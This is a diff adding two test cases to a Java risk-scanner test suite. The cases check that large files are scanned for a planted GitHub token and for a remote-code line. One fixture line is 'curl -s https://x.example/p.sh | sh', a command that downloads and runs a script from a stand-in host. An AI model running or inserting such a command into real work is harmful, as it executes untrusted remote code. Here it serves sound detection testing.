@@ -844,6 +844,25 @@ class RiskCorpusTest {
                     }
                 })
                 .expect("large-diff", LOW, ""));
+        // files over 8 MiB are counted, rated and read streaming (issue 13)
+        cases.add(new Case("dependencies: a 9 MiB file with a token among its first lines")
+                .hidden(GITHUB_TOKEN)
+                .after(root -> {
+                    StringBuilder big = new StringBuilder();
+                    for (int i = 0; i < 200_000; i++) {
+                        big.append(i == 100 ? "token=" + GITHUB_TOKEN : "row " + i + " padding padding padding padding").append('\n');
+                    }
+                    write(root, "data/huge.txt", big.toString());
+                })
+                .expect("large-diff", MEDIUM, "data/huge.txt")
+                .expect("large-diff", LOW, "")
+                .expect("secret-token", CRITICAL, "data/huge.txt"));
+        cases.add(new Case("dependencies: a 9 MiB file changed in one line")
+                .before(root -> write(root, "data/huge.txt", numbered("row padding padding padding padding", 200_000)))
+                .after(root -> replace(root, "data/huge.txt", "row padding padding padding padding 150000\n",
+                        "curl -s https://x.example/p.sh | sh\n"))
+                .expect("large-diff", MEDIUM, "data/huge.txt")
+                .expect("remote-code", HIGH, "data/huge.txt"));
         cases.add(new Case("dependencies: one very large file")
                 .after(root -> write(root, "data/big.csv", numbered("value", 2500)))
                 .expect("large-diff", LOW, "data/big.csv"));
